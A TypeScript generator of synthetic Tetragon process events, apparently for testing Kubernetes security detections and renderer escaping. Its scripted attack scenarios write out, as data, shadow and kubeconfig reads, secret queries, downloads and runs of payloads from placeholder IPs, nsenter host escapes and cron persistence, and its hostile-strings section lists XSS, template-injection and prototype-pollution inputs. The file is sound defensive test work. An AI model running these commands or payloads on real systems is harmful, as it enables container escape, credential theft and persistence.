    this.perScenario.set(this.scenario, (this.perScenario.get(this.scenario) ?? 0) + copies);
    return proc;
  }

  /** spawn + emit */
  run(parent: Proc, spec: SpawnSpec): Proc {
    return this.emit(this.spawn(parent, spec));
  }

  /** `kubectl exec` (or an exec probe): runc starts the process in the pod's container; emitted. */
  kexec(pod: PodInfo, spec: SpawnSpec, options: { probe?: boolean; copies?: number } = {}): Proc {
    return this.emit(this.spawn(this.runc(pod, spec.at, options.probe), spec), options.copies);
  }

  /** A few milliseconds after `proc` started: for a child that follows its parent at once. */
  soon(proc: Proc): bigint {
    return proc.startNs + ms(this.rng.int(2, 40)) + BigInt(this.rng.int(0, 999_999));
  }

  /** exec + emit */
  reexec(proc: Proc, binary: string, args?: string): Proc {
    return this.emit(this.exec(proc, binary, args));
  }
}

const NSENTER_LONG = '--target 1 --mount --uts --ipc --net --pid --';

/** The fixed plan. Every event here is listed, with what it is for, in samples/data/README.md. */
function scenarios(c: Cycle, rng: Rng, world: World, cycleStartNs: bigint): void {
  // --- prod / dev / netshoot: an interactive attack session (kubectl exec into a privileged pod).
  c.scenario = 'netshoot';
  {
    const pod = c.pod('netshoot');
    const bash = c.kexec(pod, { binary: '/bin/bash', at: c.t(42) });
    c.run(bash, { binary: '/usr/bin/id', at: c.t(42, 20) });
    c.run(bash, { binary: '/bin/cat', args: '/etc/shadow', at: c.t(42, 41) });
    c.run(bash, { binary: '/usr/bin/curl', args: '-sk https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets', at: c.t(43, 5) });
    c.run(bash, { binary: '/usr/bin/curl', args: '--insecure -o /tmp/k.sh https://203.0.113.50/k.sh', at: c.t(44, 10) });
    c.run(bash, { binary: '/bin/sh', args: '/tmp/k.sh', at: c.t(44, 40) });
    // Escape to the host at 06:50, 07:20 and 07:35: two hourly buckets for `bin _time span=1h`.
    const first = c.run(bash, { binary: '/usr/bin/nsenter', args: `${NSENTER_LONG} bash`, at: c.t(50) });
    const hostBash = c.reexec(first, '/usr/bin/bash');
    c.run(hostBash, { binary: '/usr/bin/cat', args: '/var/lib/kubelet/kubeconfig', at: c.t(51, 30) });
    c.run(bash, { binary: '/usr/bin/crontab', args: '-l', at: c.t(65, 10) });
    c.run(bash, { binary: '/usr/bin/crontab', args: '-', at: c.t(65, 11) });
    c.run(bash, { binary: '/usr/bin/tee', args: '-a /etc/cron.d/kube-sync', at: c.t(66) });
    c.reexec(c.run(bash, { binary: '/usr/bin/nsenter', args: `${NSENTER_LONG} bash`, at: c.t(80) }), '/usr/bin/bash');
    c.reexec(c.run(bash, { binary: '/usr/bin/nsenter', args: '-t 1 -m -u -i -n -p -- /usr/bin/crictl ps -a', at: c.t(95) }), '/usr/bin/crictl', 'ps -a');
  }

  // --- prod / payments / checkout: the app runs a key-rotation script through sh, which execs sh
  // again (same pid: the seed detection counts 2 in that group). Twice per cycle.
  c.scenario = 'checkout';
  for (const min of [15, 135]) {
    const pod = c.pod('checkout');
    const sh = c.run(pod.init, { binary: '/bin/sh', args: '-c "exec /bin/sh /app/bin/rotate-keys.sh"', at: c.t(min) });
    const script = c.reexec(sh, '/bin/sh', '/app/bin/rotate-keys.sh');
    c.run(script, { binary: '/usr/local/bin/python3', args: '/app/bin/rotate_keys.py --kms alias/checkout', at: c.t(min, 2) });
  }

  // --- prod / data / orders-db-0: exec probes through sh, hourly (three separate pids).
  c.scenario = 'orders-db';
  for (const min of [10, 70, 130]) {
    const pod = c.pod('orders-db');
    const sh = c.kexec(pod, { binary: '/bin/sh', args: '-c "pg_isready -U postgres -h 127.0.0.1 -p 5432"', uid: 999, at: c.t(min) }, { probe: true });
    c.run(sh, { binary: '/usr/lib/postgresql/16/bin/pg_isready', args: '-U postgres -h 127.0.0.1 -p 5432', at: c.soon(sh) });
  }

  // --- prod / ci / build-runner: deploy jobs. bash execs itself twice (3 events, one pid), and a
  // few decoys: ssh (not sh), env (runs bash), curl -fsSL and curl -K (not insecure).
  c.scenario = 'build-runner';
  for (const min of [30, 120]) {
    const pod = c.pod('build-runner');
    const job = c.run(pod.init, { binary: '/usr/bin/bash', args: '-lc "exec bash ./ci/deploy.sh"', at: c.t(min) });
    const deploy = c.reexec(job, '/usr/bin/bash', './ci/deploy.sh');
    const apply = c.reexec(deploy, '/usr/bin/bash', './ci/steps/apply.sh');
    const git = c.run(apply, { binary: '/usr/bin/git', args: 'fetch --depth 1 origin main', at: c.t(min, 3) });
    c.run(git, { binary: '/usr/bin/ssh', args: "-o BatchMode=yes git@git.example.com \"git-upload-pack 'acme/deploy.git'\"", at: c.soon(git) });
    c.run(apply, { binary: '/usr/bin/curl', args: '-fsSL -o /tmp/helm.tgz https://get.helm.sh/helm-v3.16.2-linux-amd64.tar.gz', at: c.t(min, 8) });
    c.run(apply, { binary: '/usr/bin/sha256sum', args: '/tmp/helm.tgz', at: c.t(min, 12) });
    c.run(apply, { binary: '/usr/bin/curl', args: '-K /etc/ci/curlrc https://artifacts.example.com/manifests.tgz', at: c.t(min, 14) });
    c.run(apply, { binary: '/opt/bitnami/kubectl/bin/kubectl', args: 'apply -f manifests/ --server-side', at: c.t(min, 20) });
    c.run(apply, { binary: '/opt/bitnami/kubectl/bin/kubectl', args: 'rollout status deployment/checkout -n payments --timeout=120s', at: c.t(min, 24) });
    c.reexec(c.run(apply, { binary: '/usr/bin/env', args: 'bash ./ci/lint.sh', at: c.t(min, 50) }), '/usr/bin/bash', './ci/lint.sh');
  }

  // --- prod / web / storefront: an operator reloads nginx.
  c.scenario = 'storefront';
  {
    const pod = c.pod('storefront');
    const sh = c.kexec(pod, { binary: '/bin/sh', args: '-c "nginx -t && nginx -s reload"', at: c.t(105) });
    const test = c.run(sh, { binary: '/usr/sbin/nginx', args: '-t', at: c.soon(sh) });
    c.run(sh, { binary: '/usr/sbin/nginx', args: '-s reload', at: c.soon(test) });
  }

  // --- stage / default / xwing (image not on the allowlist): zsh and fish sessions.
  c.scenario = 'xwing';
  {
    const pod = c.pod('xwing');
    const zsh = c.kexec(pod, { binary: '/bin/zsh', at: c.t(25) });
    c.run(zsh, { binary: '/usr/bin/whoami', at: c.t(25, 9) });
    c.run(zsh, { binary: '/usr/bin/curl', args: 'https://ebpf.io/applications/#tetragon', at: c.t(25, 30) });
    c.run(zsh, { binary: '/usr/bin/curl', args: '-kfsSL https://198.51.100.77:8443/stage2', at: c.t(26, 2) });
    // Delivered twice (at-least-once pipelines do that): the fish group counts 2.
    const fish = c.kexec(pod, { binary: '/usr/bin/fish', at: c.t(100) }, { copies: 2 });
    c.run(fish, { binary: '/usr/bin/wget', args: '--no-check-certificate -q -O /tmp/.cache/agent https://198.51.100.77/agent', at: c.t(100, 40) });
    c.run(fish, { binary: '/usr/bin/wget', args: '-k -r -np https://docs.example.com/runbooks/', at: c.t(101, 15) });
  }

  // --- stage / tools / debug-shell (debian, allowlisted): an admin installs and fetches tools.
  c.scenario = 'debug-shell';
  {
    const pod = c.pod('debug-shell');
    const bash = c.kexec(pod, { binary: '/bin/bash', at: c.t(125) });
    c.run(bash, { binary: '/usr/bin/apt-get', args: 'update', at: c.t(125, 20) });
    c.run(bash, { binary: '/usr/bin/apt-get', args: 'install -y --no-install-recommends wget ca-certificates', at: c.t(126) });
    c.run(bash, { binary: '/usr/bin/wget', args: '--no-check-certificate https://artifacts.internal.example/tools.tar.gz', at: c.t(127, 30) });
    c.run(bash, { binary: '/bin/ps', args: 'aux', at: c.t(128) });
  }

  // --- stage / api / inventory: the JVM checks disk space through dash, hourly.
  c.scenario = 'inventory';
  for (const min of [20, 80, 140]) {
    const pod = c.pod('inventory');
    const dash = c.run(pod.init, { binary: '/usr/bin/dash', args: '-c "df -kP /var/lib/inventory"', at: c.t(min) });
    c.run(dash, { binary: '/usr/bin/df', args: '-kP /var/lib/inventory', at: c.soon(dash) });
  }

  // --- stage / research / notebook-0 (image not on the allowlist): the terminal's shell is eshell.
  c.scenario = 'notebook';
  {
    const pod = c.pod('notebook');
    c.run(pod.init, { binary: '/usr/local/bin/eshell', at: c.t(55) });
    c.run(pod.init, { binary: '/usr/local/bin/eshell', args: '-c "ls -la /home/jovyan/work"', at: c.t(110) });
    c.run(pod.init, { binary: '/opt/conda/bin/python3', args: '-m pip install --quiet requests==2.32.3', at: c.t(111) });
  }

  // --- dc1 / batch / ledger-reconcile: a CronJob; each run is a new pod whose entrypoint is ksh
  // (which execs ksh again), with csh, tcsh and rbash helpers.
  c.scenario = 'ledger-reconcile';
  for (const min of [0, 120]) {
    const spec = PODS_CRONJOB;
    const nodes = world.clusters.get(spec.cluster)!.nodes;
    const node = nodes[rng.int(0, nodes.length - 1)]!;
    const scheduled = cycleStartNs + sec(min * 60);
    const pod = makePod(rng, node, spec, c.t(min, 2), 'exec', scheduled);
    const ksh = c.emit(pod.init);
    const stage2 = c.reexec(ksh, '/bin/ksh', '/opt/ledger/bin/reconcile-stage2.ksh');
    c.run(stage2, { binary: '/bin/csh', args: '-f /opt/ledger/bin/fx-rates.csh', at: c.t(min, 10) });
    const tcsh = c.run(stage2, { binary: '/usr/bin/tcsh', args: '-c "source /opt/ledger/etc/env.tcsh && /opt/ledger/bin/ledgerctl verify"', at: c.t(min, 30) });
    c.run(tcsh, { binary: '/opt/ledger/bin/ledgerctl', args: 'verify', at: c.t(min, 31) });
    const rbash = c.run(stage2, { binary: '/bin/rbash', args: '-c "ledger-report --daily --out /reports"', at: c.t(min, 50) });
    c.run(rbash, { binary: '/opt/ledger/bin/ledger-report', args: '--daily --out /reports', at: c.t(min, 51) });
  }

  // --- dc1 / dev / kali (image not on the allowlist, privileged): ion sessions, a crontab, and
  // an escape with nsenter's short options.
  c.scenario = 'kali';
  {
    const pod = c.pod('kali');
    const ion = c.kexec(pod, { binary: '/usr/bin/ion', at: c.t(72) });
    c.run(ion, { binary: '/usr/bin/id', at: c.t(72, 15) });
    c.run(ion, { binary: '/usr/bin/curl', args: '-k https://kubernetes.default.svc/version', at: c.t(73) });
    c.run(ion, { binary: '/usr/bin/crontab', args: '/tmp/.cron', at: c.t(74) });
    c.run(ion, { binary: '/usr/bin/crontab', args: '-e', at: c.t(74, 40) });
    const hostSh = c.reexec(c.run(ion, { binary: '/usr/bin/nsenter', args: '-t 1 -m -u -i -n -p -- sh', at: c.t(76) }), '/bin/sh');
    c.run(hostSh, { binary: '/usr/bin/cp', args: '/tmp/.cron /var/spool/cron/crontabs/root', at: c.t(77) });
    const ion2 = c.kexec(pod, { binary: '/usr/bin/ion', args: '-c "cat /etc/shadow"', at: c.t(150) });
    c.run(ion2, { binary: '/bin/cat', args: '/etc/shadow', at: c.soon(ion2) });
  }

  // --- dc1 / kube-system / node-debugger (kubectl debug node): a sanctioned nsenter that the
  // nsenter detection's filter macro excludes.
  c.scenario = 'node-debugger';
  {
    const nodes = world.clusters.get('payments-dc1')!.nodes;
    const node = nodes[1]!;
    const spec: PodSpec = {
      key: 'node-debugger',
      cluster: 'payments-dc1',
      node: 1,
      namespace: 'kube-system',
      workload: `node-debugger-${node.name}-${rng.chars(5, K8S_ALPHABET)}`,
      kind: 'Pod',
      container: 'debugger',
      image: 'docker.io/library/ubuntu:24.04',
      init: { binary: '/bin/bash', cwd: '/', uid: 0 },
    };
    const pod = makePod(rng, node, spec, c.t(90), 'exec');
    const bash = c.emit(pod.init);
    c.reexec(c.run(bash, { binary: '/usr/bin/nsenter', args: `${NSENTER_LONG} journalctl -u kubelet --since "1 hour ago"`, at: c.t(91) }), '/usr/bin/journalctl', '-u kubelet --since "1 hour ago"');
  }

  // --- kind (open-source Tetragon, older agent): no cluster_name, so every `stats ... by
  // cluster_name` drops these; the cron detection (table, no stats) keeps its one.
  c.scenario = 'kind';
  {
    const pod = c.pod('kind-xwing');
    const bash = c.kexec(pod, { binary: '/bin/bash', at: c.t(33) });
    c.run(bash, { binary: '/usr/bin/whoami', args: '--version', at: c.t(33, 12) });
    const sh = c.run(bash, { binary: '/bin/sh', args: '-c "curl -k https://10.96.0.1/version"', at: c.t(34) });
    c.run(sh, { binary: '/usr/bin/curl', args: '-k https://10.96.0.1/version', at: c.soon(sh) });
    c.reexec(c.run(bash, { binary: '/usr/bin/nsenter', args: `${NSENTER_LONG} bash`, at: c.t(75) }), '/usr/bin/bash');
    c.run(bash, { binary: '/usr/bin/crontab', args: '-', at: c.t(76) });
  }

  // --- GKE (open-source Tetragon, newer agent): the documentation's curl example, and zsh.
  c.scenario = 'gke';
  {
    const pod = c.pod('gke-xwing');
    const bash = c.kexec(pod, { binary: '/bin/bash', args: '-c "curl https://ebpf.io/applications/#tetragon"', at: c.t(58) });
    c.run(bash, { binary: '/usr/bin/curl', args: 'https://ebpf.io/applications/#tetragon', at: c.soon(bash) });
    c.kexec(pod, { binary: '/bin/zsh', at: c.t(108) });
  }
}

const PODS_CRONJOB: PodSpec = {
  key: 'ledger-reconcile',
  cluster: 'payments-dc1',
  node: 0,
  namespace: 'batch',
  workload: 'ledger-reconcile',
  kind: 'CronJob',
  container: 'reconcile',
  image: 'registry.example.com/payments/ledger-batch:7.1.0',
  init: { binary: '/bin/ksh', args: '/opt/ledger/bin/reconcile.ksh', cwd: '/opt/ledger', uid: 1500 },
};

/** Benign exec probes and jobs in open-source clusters: a fixed number per cycle. */
const OSS_FILLER = 40;

interface Filler {
  readonly pods: readonly string[];
  readonly binary: string;
  readonly args?: string;
  /** Run through `runc exec` as a probe (default), or by the container's entrypoint. */
  readonly via?: 'probe' | 'init';
}

/** Benign activity in pods whose images are on the allowlist, plus kubectl in the CI runner (whose
 * pod already has its rows): none of it matches a sample detection or adds a row. */
const ENTERPRISE_FILLER: readonly Filler[] = [
  {
    pods: ['isovalent-prod-use2/aws-node/0', 'isovalent-prod-use2/aws-node/1', 'isovalent-prod-use2/aws-node/2', 'isovalent-stage-usw2/aws-node/0', 'isovalent-stage-usw2/aws-node/1'],
    binary: '/app/grpc-health-probe',
    args: '-addr=:50051 -connect-timeout=5s -rpc-timeout=5s',
  },
  {
    pods: ['isovalent-prod-use2/tetragon/0', 'isovalent-prod-use2/tetragon/1', 'isovalent-prod-use2/tetragon/2', 'isovalent-stage-usw2/tetragon/0', 'isovalent-stage-usw2/tetragon/1', 'payments-dc1/tetragon/0', 'payments-dc1/tetragon/1'],
    binary: '/usr/bin/tetra',
    args: 'status --server-address localhost:54321 --retries 5',
  },
  { pods: ['checkout'], binary: '/usr/local/bin/python3', args: '-c "import urllib.request; urllib.request.urlopen(\'http://127.0.0.1:8080/healthz\', timeout=2)"' },
  { pods: ['checkout'], binary: '/bin/ps', args: '-o pid,comm' },
  { pods: ['storefront'], binary: '/usr/bin/curl', args: '-fsS http://127.0.0.1/healthz' },
  { pods: ['cart-api'], binary: '/usr/local/bin/node', args: '/app/healthcheck.js' },
  { pods: ['orders-db'], binary: '/usr/lib/postgresql/16/bin/pg_isready', args: '-U postgres' },
  { pods: ['inventory'], binary: '/usr/bin/curl', args: '-fs http://localhost:8081/actuator/health' },
  { pods: ['inventory'], binary: '/opt/java/openjdk/bin/java', args: '-cp /app/inventory.jar com.example.inventory.HealthCheck --timeout 2s' },
  { pods: ['ledger-api'], binary: '/usr/local/bin/node', args: '/srv/healthcheck.js' },
  { pods: ['build-runner'], binary: '/opt/bitnami/kubectl/bin/kubectl', args: 'get pods -n payments -o wide', via: 'init' },
];

const OSS_FILLERS: readonly Filler[] = [
  { pods: ['kind-xwing'], binary: '/usr/bin/netperf', args: '-H 10.244.0.7 -l 5 -t TCP_RR' },
  { pods: ['gke-web'], binary: '/usr/bin/curl', args: '-fsS http://127.0.0.1:8080/healthz' },
];

function filler(c: Cycle, rng: Rng, choices: readonly Filler[], count: number, spanMinutes: number): void {
  for (let i = 0; i < count; i += 1) {
    const f = rng.pick(choices);
    const pod = c.pod(rng.pick(f.pods));
    const at = c.t(rng.int(0, spanMinutes - 1), rng.int(0, 59));
    const parent = f.via === 'init' ? pod.init : c.runc(pod, at, true);
    c.run(parent, { binary: f.binary, args: f.args, at });
  }
}

let lastCycleComposition: Record<string, number> = {};

function* cycleLines(rng: Rng, world: World, cycleStartNs: bigint): Generator<string> {
  const c = new Cycle(rng, world, cycleStartNs);
  scenarios(c, rng, world, cycleStartNs);
  c.scenario = 'oss-filler';
  filler(c, rng, OSS_FILLERS, OSS_FILLER, CYCLE_HOURS * 60);
  const planned = c.out.length;
  if (planned > CYCLE_EVENTS) throw new Error(`the fixed plan has ${planned} events, more than ${CYCLE_EVENTS}`);
  c.scenario = 'filler';
  filler(c, rng, ENTERPRISE_FILLER, CYCLE_EVENTS - planned, CYCLE_HOURS * 60);
  lastCycleComposition = Object.fromEntries(c.perScenario);
  // Stable sort: events with the same time keep their order (the duplicate stays adjacent).
  const sorted = c.out.slice().sort((a, b) => (a.timeNs < b.timeNs ? -1 : a.timeNs > b.timeNs ? 1 : 0));
  for (const e of sorted) yield e.line;
}

/** The events, one JSON line each (no newline), in ascending time order. Streams: only one cycle
 * (400 events) is held in memory at a time. */
export function* generateEvents(options: GenerateOptions = {}): Generator<string> {
  const total = options.events ?? DEFAULT_EVENTS;
  if (!Number.isInteger(total) || total < 0) throw new Error(`events must be a non-negative integer, got ${total}`);
  const startNs = parseIso(options.start ?? DEFAULT_START);
  const rng = new Rng(seedNumber(options.seed));
  const world = buildWorld(rng, startNs);
  let emitted = 0;
  for (let cycle = 0; emitted < total; cycle += 1) {
    const cycleStart = startNs + BigInt(cycle) * BigInt(CYCLE_HOURS) * 3600n * NS_PER_S;
    for (const line of cycleLines(rng, world, cycleStart)) {
      if (emitted >= total) return;
      emitted += 1;
      yield line;
    }
  }
}

/** The generator's own bookkeeping: how many events each scenario of the plan contributes to one
 * cycle (the same for every seed and every cycle). */
export function cycleComposition(options: Pick<GenerateOptions, 'seed' | 'start'> = {}): Record<string, number> {
  const startNs = parseIso(options.start ?? DEFAULT_START);
  const rng = new Rng(seedNumber(options.seed));
  const world = buildWorld(rng, startNs);
  for (const _line of cycleLines(rng, world, startNs)) {
    // drain the cycle
  }
  return { ...lastCycleComposition };
}

// ---------------------------------------------------------------------------------------------
// Hostile events: values that must never be interpreted by a renderer (HTML, script, URL, token,
// template, control characters), in events of the normal shape that the seed detection matches.

export const HOSTILE_STRINGS = {
  img: '<img src=x onerror=alert(1)>',
  script: '</script><script>alert(2)</script>',
  jsUrl: 'javascript:alert(3)',
  quotes: `prod "double" 'single' \`back\` \\back\\slash\\ C:\\Windows\\System32`,
  unicode: 'nœud-ü-ñ-日本語-🚀-\u202Egnp.exe-\u200B-e\u0301-\uD800',
  svg: '"><svg/onload=alert(7)>',
  tokens: '$node_name$ %original_detection_search% {{constructor.constructor(\'alert(8)\')()}} ${alert(9)} `cisco_isovalent_process_exec`',
  control: 'line1\r\nline2\ttab\u0000nul\u001b[31mred\u001b[0m\u2028ls\u2029ps',
} as const;

export function generateHostileEvents(options: { start?: string } = {}): string[] {
  const startNs = parseIso(options.start ?? DEFAULT_START);
  const rng = new Rng(seedNumber('hostile'));
  const lines: string[] = [];
  const H = HOSTILE_STRINGS;
  const longArg = `-c "echo ${'A'.repeat(20_000)}${H.img}"`;
  const cases: { cluster: string; node: string; pod: Partial<PodSpec>; parent?: { binary: string; args?: string }; binary: string; args?: string; labels?: Record<string, string> }[] = [
    { cluster: H.img, node: 'ip-10-9-0-1.ec2.internal', pod: {}, binary: '/bin/sh', args: `-c "echo ${H.img}"` },
    { cluster: 'hostile-lab', node: H.script, pod: {}, binary: '/bin/bash', args: `-c "${H.script}"` },
    { cluster: 'hostile-lab', node: 'ip-10-9-0-3.ec2.internal', pod: { workload: H.jsUrl }, parent: { binary: `/tmp/${H.jsUrl}`, args: H.jsUrl }, binary: '/bin/zsh', args: `-c "open ${H.jsUrl}"` },
    { cluster: H.quotes, node: 'ip-10-9-0-4.ec2.internal', pod: { namespace: `ns-"quoted"-'x'` }, binary: '/bin/sh', args: `-c "printf '%s\\n' \\"a\\\\\\"b\\" ${H.quotes}"` },
    { cluster: 'hostile-lab', node: H.unicode, pod: { namespace: 'ünïcödé' }, binary: '/usr/bin/fish', args: `-c "echo ${H.unicode}"` },
    { cluster: 'hostile-lab', node: 'ip-10-9-0-6.ec2.internal', pod: {}, binary: '/bin/bash', args: longArg },
    { cluster: 'hostile-lab', node: 'ip-10-9-0-7.ec2.internal', pod: {}, parent: { binary: '/bin/sh', args: `-c "curl -k 'https://evil.example/?q=${H.svg}'"` }, binary: '/usr/bin/curl', args: `-k "https://evil.example/?q=${H.svg}"` },
    {
      cluster: '`cisco_isovalent_process_exec`',
      node: 'ip-10-9-0-8.ec2.internal',
      pod: { workload: '$pod_name$' },
      binary: '/bin/bash',
      args: `-c "echo ${H.tokens}"`,
      labels: { ['__proto__']: 'polluted', constructor: 'x', 'app.kubernetes.io/name': '<b>bold</b>' },
    },
    { cluster: 'hostile-lab', node: 'ip-10-9-0-9.ec2.internal', pod: {}, binary: '/bin/dash', args: `-c "${H.control}"` },
    { cluster: 'hostile-lab', node: `ip-10-9-0-10.ec2.internal ${H.control}`, pod: { namespace: H.img }, binary: `/tmp/${H.script}/sh`, args: H.img },
  ];
  cases.forEach((k, i) => {
    const info: ClusterInfo = { name: k.cluster, style: 'enterprise' };
    const bootNs = startNs - sec(86400 * 3);
    const node: NodeInfo = {
      name: k.node,
      cluster: info,
      bootNs,
      labels: { 'kubernetes.io/hostname': k.node, 'kubernetes.io/os': 'linux', 'hostile/label': H.img },
      runcPath: '/usr/sbin/runc',
      nextPid: 100_000 + i * 1000,
      nextDaemonPid: 2000,
      systemd: undefined as unknown as Proc,
    };
    node.systemd = procfsProc(node, 1, bootNs + 60_000_000n, { binary: '/usr/lib/systemd/systemd', args: AL2_SYSTEMD, cwd: '/', parent: undefined });
    const spec: PodSpec = {
      key: `hostile-${i}`,
      cluster: k.cluster,
      node: 0,
      namespace: k.pod.namespace ?? 'default',
      workload: k.pod.workload ?? 'victim',
      kind: 'Pod',
      container: 'victim',
      image: `registry.hostile.example/${encodeURIComponent(H.img)}:latest`,
      init: { binary: '/bin/sleep', args: 'infinity', cwd: '/', uid: 0 },
    };
    const pod = makePod(rng, node, spec, startNs - sec(3600), 'procfs');
    const withLabels: PodInfo = k.labels ? { ...pod, labels: k.labels } : pod;
    withLabels.init = { ...pod.init, pod: withLabels };
    const c = new Cycle(rng, { clusters: new Map(), pods: new Map([['p', withLabels]]) }, startNs);
    const at = startNs + sec(60 * (i + 1));
    const parent = k.parent ? c.spawn(c.runc(withLabels, at - sec(1)), { binary: k.parent.binary, args: k.parent.args, at: at - sec(1) }) : c.runc(withLabels, at);
    c.emit(c.spawn(parent, { binary: k.binary, args: k.args, at }));
    lines.push(...c.out.map((e) => e.line));
  });
  return lines;
}

// ---------------------------------------------------------------------------------------------
// CLI

interface CliArgs {
  events: number;
  seed: number | string;
  start: string;
  out?: string;
  hostile?: string;
}

function parseArgs(argv: readonly string[]): CliArgs {
  const args: CliArgs = { events: DEFAULT_EVENTS, seed: DEFAULT_SEED, start: DEFAULT_START };
  for (let i = 0; i < argv.length; i += 1) {
    const flag = argv[i];
    const value = argv[i + 1];
    if (value === undefined) throw new Error(`${flag} needs a value`);
    i += 1;
    switch (flag) {
      case '--events':
        args.events = Number(value);
        break;
      case '--seed':
        args.seed = value;
        break;
      case '--start':
        args.start = value;
        break;
      case '--out':
        args.out = value;
        break;
      case '--hostile':
        args.hostile = value;
        break;
      default:
        throw new Error(`unknown option ${flag}; usage: generate-samples.ts [--events N] [--seed S] [--out FILE] [--start ISO] [--hostile FILE]`);
    }
  }
  return args;
}

/** Writes lines to a file, waiting for the stream to drain so memory stays flat. */
export async function writeLines(file: string, lines: Iterable<string>): Promise<number> {
  mkdirSync(path.dirname(file), { recursive: true });
  const stream = createWriteStream(file, { encoding: 'utf8' });
  let count = 0;
  let buffer = '';
  for (const line of lines) {
    buffer += `${line}\n`;
    count += 1;
    if (buffer.length >= 1 << 20) {
      if (!stream.write(buffer)) await new Promise<void>((resolve) => stream.once('drain', () => resolve()));
      buffer = '';
    }
  }
  if (buffer) stream.write(buffer);
  await new Promise<void>((resolve, reject) => {
    stream.on('error', reject);
    stream.end(() => resolve());
  });
  return count;
}

async function main(): Promise<void> {
  const args = parseArgs(process.argv.slice(2));
  const root = path.resolve(__dirname, '..');
  const out = args.out ?? path.join(root, DEFAULT_OUT);
  const hostile = args.hostile ?? (args.out === undefined ? path.join(root, DEFAULT_HOSTILE_OUT) : undefined);
  const n = await writeLines(out, generateEvents({ events: args.events, seed: args.seed, start: args.start }));
  console.error(`wrote ${n} events to ${path.relative(process.cwd(), out)}`);
  if (hostile) {
    const h = await writeLines(hostile, generateHostileEvents({ start: args.start }));
    console.error(`wrote ${h} hostile events to ${path.relative(process.cwd(), hostile)}`);
  }
}

// Only when run as the script itself: a benchmark bundles this file with its own entry point, and
// in a bundle `require.main === module` holds for every module of it.
if (require.main === module && /generate-samples\.[cm]?[jt]s$/.test(process.argv[1] ?? '')) {
  main().catch((error: unknown) => {
    console.error(error instanceof Error ? error.message : error);
    process.exitCode = 1;
  });
}
